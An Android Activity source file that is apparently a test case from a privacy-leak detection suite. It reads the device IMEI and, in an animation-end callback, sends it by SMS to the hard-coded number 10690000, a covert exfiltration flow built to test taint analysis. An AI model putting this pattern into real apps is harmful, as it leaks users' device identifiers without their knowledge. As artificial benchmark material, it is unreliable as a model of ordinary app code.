package cn.privlens.suite.animation_ended;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.view.animation.AlphaAnimation;
import android.view.animation.Animation;
import android.widget.TextView;

public class Main extends Activity {
    private String text = "start";
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Animation animation = new AlphaAnimation(0f, 1f);
        animation.setAnimationListener(new Animation.AnimationListener() {
            @Override
            public void onAnimationStart(Animation a) {}
            @Override
            public void onAnimationRepeat(Animation a) {}
            @Override
            public void onAnimationEnd(Animation a) { SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null); }
        });
        TextView view = new TextView(this);
        view.startAnimation(animation);
        setContentView(view);
        text = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId();
    }
}
